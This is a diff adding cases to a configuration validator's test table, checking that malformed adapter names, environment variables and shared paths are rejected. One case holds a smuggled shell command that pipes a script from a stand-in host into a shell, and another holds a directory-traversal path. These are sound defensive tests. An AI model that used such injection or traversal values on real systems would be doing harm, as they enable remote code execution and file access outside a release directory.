@@ -318,6 +318,30 @@ CASES: dict[str, Case] = {
     "toml-huge-file": Case(
         VALID + "# padding\n" * 200_000, None, "shrink it", says="larger than 1024 KiB"
     ),
+    "adapter-name-shell": Case(
+        ENV + '[targets.web]\nadapter = "x; curl evil.sh | sh #"\n',
+        "targets.web.adapter",
+        "wave config schema",
+        says="invalid name",
+    ),
+    "env-key-not-a-variable": Case(
+        VALID + 'env = { "A=B" = "x" }\n',
+        "targets.web.env",
+        "wave config schema",
+        says="'A=B' is not a variable name",
+    ),
+    "env-value-with-nul": Case(
+        VALID + 'env = { TOKEN = "a\\u0000b" }\n',
+        "targets.web.env",
+        "wave config schema",
+        says="the value of TOKEN holds a NUL byte",
+    ),
+    "shared-path-leaves-the-release": Case(
+        VALID + 'shared = ["../../elsewhere/x"]\n',
+        "targets.web.shared.0",
+        "wave config schema",
+        says="leaves the release directory",
+    ),
     # Values that validated once and then broke a run mid-way (a traceback, a clock overflow).
     "story-pattern-not-a-regex": Case(
         VALID + '[signals]\nstory_pattern = "([a-"\n',
